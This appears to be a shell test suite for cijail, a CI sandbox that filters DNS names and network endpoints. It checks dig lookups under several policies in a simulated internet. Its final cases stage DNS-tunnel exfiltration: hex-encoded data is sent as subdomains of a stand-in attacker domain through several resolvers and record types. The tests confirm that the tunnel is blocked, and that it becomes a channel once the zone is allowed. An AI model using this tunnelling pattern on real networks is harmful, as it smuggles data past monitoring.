#!/usr/bin/env bash
# The talk's dig in its three steps, the original's own test of it (dig under five policies), and a tunnel through
# the DNS. 1.1.1.1 and staex.io are those of the test internet.
. "$(dirname "$0")/../lib/lib.sh"
in_test_internet "$@"

server6=2606:4700:4700::1111
stamp='^\[[A-Z][a-z]{2} [A-Z][a-z]{2} [0-9]{2} [0-9:]{8} [0-9]{4}\] cijail: '

t_case 'first step: without a policy the server cannot be reached'
run cijail dig staex.io @1.1.1.1
t_status 9
t_match "$err" "${stamp}deny connect 1\\.1\\.1\\.1:53"
t_no_match "$out" 'ANSWER SECTION'
t_under 15000
run cijail dig staex.io @$server6
t_status 9
t_match "$err" "${stamp}deny connect \\[$server6\\]:53"

t_case 'second step: the server is allowed, the name is not'
run cijail -v -e '1.1.1.1:53' -- dig staex.io @1.1.1.1
t_match "$out" 'status: REFUSED'
t_no_match "$out" 'ANSWER SECTION'
t_match "$err" "${stamp}deny resolve staex\\.io A"
t_no_match "$err" 'deny connect'
run cijail -e "[$server6]:53" -- dig staex.io @$server6
t_match "$out" 'status: REFUSED'
t_match "$err" "${stamp}deny resolve staex\\.io A"

t_case 'third step: server and name are allowed'
run cijail -e '1.1.1.1:53 staex.io' -- dig staex.io @1.1.1.1
t_status 0
t_match "$out" 'status: NOERROR'
t_match "$out" '^staex\.io\..*IN[[:space:]]+A[[:space:]]+198\.51\.100\.10$'
t_match "$out" '^;; SERVER: 1\.1\.1\.1#53'
t_denials 0
run cijail -e "[$server6]:53 staex.io" -- dig AAAA staex.io @$server6
t_match "$out" 'AAAA[[:space:]]+2001:db8:10::10$'
t_match "$out" "^;; SERVER: $server6#53"
t_denials 0
for protocol in +tcp +notcp; do
    run cijail -e '1.1.1.1:53 staex.io' -- dig $protocol +short staex.io @1.1.1.1
    t_eq "$out" 198.51.100.10
done

t_case 'the endpoints in the environment, as the original has them'
CIJAIL_ENDPOINTS='1.1.1.1:53' run cijail dig +short staex.io @1.1.1.1
t_eq "$out" ''
t_match "$err" "${stamp}deny resolve staex\\.io A"
CIJAIL_ENDPOINTS='1.1.1.1:53 staex.io' run cijail dig +short staex.io @1.1.1.1
t_eq "$out" 198.51.100.10
t_denials 0

# The original's test. What differs: a name that is not allowed is answered (REFUSED), so dig ends with 0 and not
# with 9 after its time-out.
dig_under() { # POLICY: the status that dig shows, or its exit code if there was none
    CIJAIL_ENDPOINTS=$1 run cijail dig +timeout=2 +tries=1 name.tld @1.1.1.1
    shown=$(sed -n 's/.*status: \([A-Z]*\),.*/\1/p' <<<"$out")
    shown=${shown:-exit $status}
}

t_case 'dig under five policies'
dig_under ''
t_eq "$shown" 'exit 9'
dig_under 'name.tld'
t_eq "$shown" 'exit 9'
t_match "$err" 'deny connect 1\.1\.1\.1:53'
dig_under '1.1.1.1:53'
t_eq "$shown" REFUSED
dig_under '1.1.1.1:53 other.example'
t_eq "$shown" REFUSED
dig_under '1.1.1.1:53 name.tld'
t_eq "$shown" NOERROR
t_match "$out" '198\.51\.100\.10'
t_denials 0

t_case 'a tunnel: data in names, of a zone that is not allowed, through every server there is'
secret=4a6f686e.$(printf 'x%.0s' {1..50}).attacker.test
wire_start
for endpoints in '' '1.1.1.1:53' "1.1.1.1:53 [$server6]:53 staex.io https://registry.example/"; do
    run cijail -e "$endpoints" -- sh -c "
        for server in '' @1.1.1.1 @$server6 @192.0.2.53; do
            for type in A AAAA TXT MX NULL; do
                dig +short +timeout=1 +tries=1 \$server $secret \$type
            done
        done
        getent hosts $secret"
    t_no_match "$out" '198\.51\.100\.66|2001:db8:10::66|stolen'
    t_match "$err" 'deny resolve 4a6f686e\..*attacker\.test A'
done
wire_stop
t_no_match "$WIRE" 'attacker'

t_case 'the twin: with its zone in the policy the same is a channel'
wire_start
run cijail -e '1.1.1.1:53 *.attacker.test' -- dig +short "$secret" TXT @1.1.1.1
wire_stop
t_eq "$out" '"stolen"'
t_match "$WIRE" '4a6f686e\..*attacker\.test'

t_done
